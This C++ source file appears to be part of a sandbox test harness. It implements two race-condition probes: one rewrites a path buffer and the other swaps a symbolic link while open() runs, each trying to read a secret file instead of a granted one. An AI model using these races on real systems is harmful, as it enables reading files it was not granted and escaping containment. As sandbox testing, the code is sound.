// What a path means, changed while the kernel looks at it.

#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>

#include "probe.h"

namespace attacks {
namespace {

bool reads_other_than_granted(const char* path) {
  const int fd = ::open(path, O_RDONLY | O_CLOEXEC);
  char data[256] = {};
  const ssize_t got = fd < 0 ? 0 : ::read(fd, data, sizeof data - 1);
  ::close(fd);
  if (got <= 0 || std::strncmp(data, "granted", 7) == 0) {
    return false;
  }
  leak(data, static_cast<std::size_t>(got));
  return true;
}

// Opens the path TIMES times, and for half a second at least: on a busy machine whoever changes it
// may not have run before. EACCES when no open read what is not granted.
int open_often(const char* path, int times) {
  timespec begin{};
  timespec now{};
  ::clock_gettime(CLOCK_MONOTONIC, &begin);
  for (int i = 0;
       i < times ||
       (now.tv_sec - begin.tv_sec) * 1000 + (now.tv_nsec - begin.tv_nsec) / 1000000 < 500;
       ++i) {
    if (reads_other_than_granted(path)) {
      return 0;
    }
    ::clock_gettime(CLOCK_MONOTONIC, &now);
  }
  return EACCES;
}

struct Flip {
  char* path;
  const char* good;
  const char* bad;
  volatile bool stop;
};

void* flip_path(void* argument) {
  Flip* flip = static_cast<Flip*>(argument);
  while (!flip->stop) {
    std::strcpy(flip->path, flip->bad);
    std::strcpy(flip->path, flip->good);
  }
  return nullptr;
}

// GRANTED SECRET TIMES: one thread opens a buffer whose path another changes under it. 0 when one
// open of TIMES read what GRANTED does not hold.
int race_path(const Args& args) {
  static char path[4096];
  std::strcpy(path, args[0].c_str());
  Flip flip = {path, args[0].c_str(), args[1].c_str(), false};
  pthread_t thread{};
  if (::pthread_create(&thread, nullptr, flip_path, &flip) != 0) {
    return ENOSYS;
  }
  const int result = open_often(path, number(args[2]));
  flip.stop = true;
  ::pthread_join(thread, nullptr);
  return result;
}

[[noreturn]] void flip_link(const Args& args) {
  const std::string next = args[0] + ".next";
  for (int i = 0; i < 1000000 && ::getppid() != 1; ++i) {
    [[maybe_unused]] int ignored = ::symlink(args[i % 2 == 0 ? 2 : 1].c_str(), next.c_str());
    ignored = ::rename(next.c_str(), args[0].c_str());
  }
  ::_exit(0);
}

// LINK GRANTED SECRET TIMES: as race_path, with a symbolic link that a child keeps replacing.
int race_link(const Args& args) {
  const int child = ::fork();
  if (child == 0) {
    flip_link(args);
  }
  const int result = open_often(args[0].c_str(), number(args[3]));
  ::kill(child, SIGKILL);
  return result;
}

}  // namespace

const Attempts& race_attempts() {
  static const Attempts list = {
      {"race_path", 3, race_path},
      {"race_link", 4, race_link},
  };
  return list;
}

}  // namespace attacks
